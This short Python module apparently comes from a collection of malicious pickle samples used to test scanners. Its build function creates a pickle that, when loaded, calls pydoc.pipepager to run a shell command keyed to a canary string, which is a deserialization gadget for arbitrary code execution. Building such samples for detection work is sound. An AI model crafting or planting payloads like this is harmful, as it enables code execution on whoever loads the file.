"""Pydoc pipes text into a shell command."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call, shell


def build(canary: str) -> bytes:
    return pickled_call("pydoc", "pipepager", "", shell(canary))
